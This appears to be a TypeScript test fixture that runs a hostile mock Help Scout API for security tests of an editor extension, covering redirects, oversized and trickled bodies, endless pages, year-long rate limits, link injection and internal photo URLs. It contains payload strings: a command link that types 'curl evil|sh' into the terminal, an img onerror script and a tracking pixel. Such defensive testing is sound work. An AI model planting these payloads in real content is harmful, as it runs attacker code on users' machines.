// A hostile or broken Help Scout API for the security tests, beside the sandbox and not part of
// it (it never ships: nothing under src/ imports it). Each case answers the endpoints the
// extension calls the way an attacker-controlled or broken server could:
//   redirect        every endpoint, the token POST included, 307s to another origin
//   hugeBody        a 300 MB chunked body without Content-Length
//   trickle         headers at once, then one byte a second
//   endlessPages    every list page says there is a next one, with new items each time
//   retryAfterYear  429 with Retry-After: 31536000 on every API call
//   linkInjection   names, error messages and field errors carrying [x](command:…) and <img onerror>
//   internalPhoto   the user's photoUrl points at an address on this machine
// A second server, `startRecorder()`, stands for "another origin": it records whatever reaches it.
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

export const HOSTILE_CASES = ['redirect', 'hugeBody', 'trickle', 'endlessPages', 'retryAfterYear', 'linkInjection', 'internalPhoto'] as const;
export type HostileCase = (typeof HOSTILE_CASES)[number];

/** What an attacker would like to see rendered as a link or as HTML. */
export const COMMAND_LINK = '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
/** Short enough for a saved query's name (at most 100 characters). */
export const COMMAND_NAME = '[Retry](command:workbench.action.terminal.sendSequence?%7B%7D)';
export const IMAGE_LINK = '![x](https://tracker.example/pixel.png)';
export const HTML_PAYLOAD = '<img src=x onerror="alert(1)">';
export const HOSTILE_TEXT = `${COMMAND_LINK} ${IMAGE_LINK} ${HTML_PAYLOAD}`;

export const HUGE_BODY_BYTES = 300 * 1024 * 1024;
export const RETRY_AFTER_SECONDS = 31_536_000;

export interface RecordedRequest {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

export interface RunningServer {
  baseUrl: string;
  requests: RecordedRequest[];
  close(): Promise<void>;
}

export interface HostileServer extends RunningServer {
  /** The credentials its token endpoint accepts (every other case than redirect issues a token). */
  appId: string;
  appSecret: string;
  /** The token it issues. */
  token: string;
  /** Bytes written of the huge or trickled body so far. */
  bytesSent(): number;
}

function listen(server: Server): Promise<string> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`));
  });
}

function closer(server: Server, timers: Set<NodeJS.Timeout>): () => Promise<void> {
  let closing: Promise<void> | undefined;
  return () => {
    closing ??= new Promise<void>((resolve) => {
      for (const timer of timers) clearInterval(timer);
      server.close(() => resolve());
      server.closeAllConnections();
    });
    return closing;
  };
}

function readBody(req: IncomingMessage): Promise<string> {
  return new Promise((resolve) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (chunk: string) => {
      if (body.length < 100_000) body += chunk;
    });
    req.on('end', () => resolve(body));
    req.on('error', () => resolve(body));
  });
}

/** "Another origin": records every request that reaches it and answers 200 with a token-like body. */
export async function startRecorder(): Promise<RunningServer> {
  const requests: RecordedRequest[] = [];
  const server = createServer((req, res) => {
    void readBody(req).then((body) => {
      requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ access_token: 'stolen-origin-token', expires_in: 7200, id: 1, firstName: 'Evil' }));
    });
  });
  const baseUrl = await listen(server);
  return { baseUrl, requests, close: closer(server, new Set()) };
}

function json(res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}): void {
  const text = JSON.stringify(body);
  res.writeHead(status, { 'Content-Type': 'application/json', 'Content-Length': String(Buffer.byteLength(text)), ...headers });
  res.end(text);
}

function user(id: number, name: string, photoUrl?: string) {
  return { id, firstName: name, lastName: 'Hostile', email: `user${id}@example.com`, role: 'user', timezone: 'UTC', type: 'user', ...(photoUrl ? { photoUrl } : {}) };
}

export interface HostileOptions {
  /** Where `redirect` sends everything (another origin), and where `internalPhoto`'s photo points. */
  target?: string;
}

export async function startHostileServer(which: HostileCase, options: HostileOptions = {}): Promise<HostileServer> {
  const requests: RecordedRequest[] = [];
  const timers = new Set<NodeJS.Timeout>();
  const appId = 'hostile-app-id';
  const appSecret = `hostile-secret-${Math.random().toString(36).slice(2, 12)}`;
  const token = `hostile-token-${Math.random().toString(36).slice(2, 12)}`;
  let sent = 0;
  const target = options.target ?? 'http://127.0.0.1:9';

  /** `burst`: as much as the socket takes each tick (a huge body); else one chunk a tick (a trickle). */
  const stream = (res: ServerResponse, chunk: Buffer, total: number, everyMs: number, burst: boolean) => {
    res.writeHead(200, { 'Content-Type': 'application/json' }); // no Content-Length: chunked
    res.write('{"padding":"');
    sent = 0;
    const timer = setInterval(() => {
      if (res.destroyed || sent >= total) {
        clearInterval(timer);
        timers.delete(timer);
        if (!res.destroyed) res.end('"}');
        return;
      }
      // Write until the socket pushes back, then wait for the next tick.
      while (sent < total) {
        const more = res.write(chunk);
        sent += chunk.length;
        if (!more || !burst) break;
      }
    }, everyMs);
    timers.add(timer);
    res.on('close', () => {
      clearInterval(timer);
      timers.delete(timer);
    });
  };

  const handle = (req: IncomingMessage, res: ServerResponse, body: string) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    const path = url.pathname;
    if (which === 'redirect') {
      res.writeHead(307, { Location: `${target}${path}${url.search}`, 'Content-Length': '0' });
      res.end();
      return;
    }
    if (path === '/v2/oauth2/token') {
      const form = new URLSearchParams(body);
      if (form.get('client_id') !== appId || form.get('client_secret') !== appSecret) return json(res, 401, { error: 'invalid_client' });
      return json(res, 200, { token_type: 'bearer', access_token: token, expires_in: 7200 });
    }
    if (req.headers.authorization !== `Bearer ${token}`) return json(res, 401, { message: 'Invalid access token' });
    switch (which) {
      case 'hugeBody':
        return stream(res, Buffer.alloc(64 * 1024, 0x61), HUGE_BODY_BYTES, 1, true);
      case 'trickle':
        return stream(res, Buffer.from('a'), 3600, 1000, false);
      case 'retryAfterYear':
        return json(res, 429, { message: 'API rate limit exceeded' }, { 'Retry-After': String(RETRY_AFTER_SECONDS), 'X-RateLimit-Retry-After': String(RETRY_AFTER_SECONDS) });
      case 'endlessPages': {
        if (path === '/v2/users/me') return json(res, 200, user(1, 'Me'));
        const page = Number(url.searchParams.get('page') ?? '1');
        const key = path.split('/').pop() ?? 'users';
        const items = Array.from({ length: 50 }, (_, i) => ({ ...user(page * 1000 + i, `U${page}-${i}`), name: `Item ${page}-${i}`, slug: `s${i}` }));
        return json(res, 200, {
          _embedded: { [key]: items },
          page: { size: 50, totalElements: 1e9, totalPages: 2e7, number: page },
          _links: { next: { href: `${target}${path}?page=${page + 1}` } },
        });
      }
      case 'linkInjection': {
        if (path === '/v2/users/me' || path === '/v2/users') {
          const me = user(1, HOSTILE_TEXT);
          return json(res, 200, path === '/v2/users' ? { _embedded: { users: [me] }, page: { size: 50, totalElements: 1, totalPages: 1, number: 1 } } : me);
        }
        if (path === '/v2/mailboxes' || path === '/v2/tags') {
          const key = path === '/v2/tags' ? 'tags' : 'mailboxes';
          return json(res, 200, { _embedded: { [key]: [{ id: 7, name: HOSTILE_TEXT, slug: 'x', email: 'x@example.com' }] }, page: { size: 50, totalElements: 1, totalPages: 1, number: 1 } });
        }
        return json(
          res,
          400,
          {
            logRef: `${COMMAND_LINK}#1`,
            message: HOSTILE_TEXT,
            _embedded: { errors: [{ path: `viewBy${COMMAND_LINK}`, message: HOSTILE_TEXT, rejectedValue: IMAGE_LINK, source: 'query' }] },
          },
          { 'Content-Type': 'application/vnd.error+json' },
        );
      }
      case 'internalPhoto':
        if (path === '/v2/users/me') return json(res, 200, user(1, 'Me', `${target}/photo.png`));
        return json(res, 404, { message: 'Not found' });
    }
  };

  const server = createServer((req, res) => {
    void readBody(req).then((body) => {
      requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      handle(req, res, body);
    });
  });
  const baseUrl = await listen(server);
  return { baseUrl, requests, appId, appSecret, token, bytesSent: () => sent, close: closer(server, timers) };
}

/**
 * The huge-body case in a child process of plain node (no TypeScript loader, so it also starts
 * from inside an extension host): a memory figure measured in this process is then the client's
 * alone, not the server's write buffers as well. Requests are not recorded.
 */
const HUGE_BODY_CHILD = `
const http = require('node:http');
const [appId, appSecret, token, total] = process.argv.slice(1);
const chunk = Buffer.alloc(64 * 1024, 0x61);
const server = http.createServer((req, res) => {
  let body = '';
  req.on('data', (c) => { body += c; });
  req.on('end', () => {
    if (req.url === '/v2/oauth2/token') {
      const form = new URLSearchParams(body);
      const ok = form.get('client_id') === appId && form.get('client_secret') === appSecret;
      res.writeHead(ok ? 200 : 401, { 'Content-Type': 'application/json' });
      return res.end(JSON.stringify(ok ? { token_type: 'bearer', access_token: token, expires_in: 7200 } : { error: 'invalid_client' }));
    }
    if (req.headers.authorization !== 'Bearer ' + token) { res.writeHead(401); return res.end('{}'); }
    res.writeHead(200, { 'Content-Type': 'application/json' });
    res.write('{"padding":"');
    let sent = 0;
    const next = () => {
      while (sent < Number(total)) { sent += chunk.length; if (!res.write(chunk)) return res.once('drain', next); }
      res.end('"}');
    };
    res.on('error', () => undefined);
    next();
  });
});
server.listen(0, '127.0.0.1', () => process.stdout.write(JSON.stringify({ port: server.address().port }) + '\\n'));
process.stdin.on('end', () => process.exit(0));
process.stdin.resume();
`;

export async function startHugeBodyProcess(): Promise<HostileServer> {
  const { spawn } = await import('node:child_process');
  const appId = 'hostile-app-id';
  const appSecret = `hostile-secret-${Math.random().toString(36).slice(2, 12)}`;
  const token = `hostile-token-${Math.random().toString(36).slice(2, 12)}`;
  const child = spawn(process.execPath, ['-e', HUGE_BODY_CHILD, appId, appSecret, token, String(HUGE_BODY_BYTES)], { stdio: ['pipe', 'pipe', 'inherit'] });
  const port = await new Promise<number>((resolve, reject) => {
    let out = '';
    child.stdout.setEncoding('utf8');
    child.stdout.on('data', (chunk: string) => {
      out += chunk;
      if (out.includes('\n')) resolve((JSON.parse(out.split('\n')[0]!) as { port: number }).port);
    });
    child.once('exit', (code) => reject(new Error(`the huge-body server exited (${code}) before it listened`)));
  });
  return {
    baseUrl: `http://127.0.0.1:${port}`,
    appId,
    appSecret,
    token,
    requests: [],
    bytesSent: () => 0,
    close: () =>
      new Promise<void>((resolve) => {
        if (child.exitCode !== null) return resolve();
        child.once('exit', () => resolve());
        child.kill();
      }),
  };
}
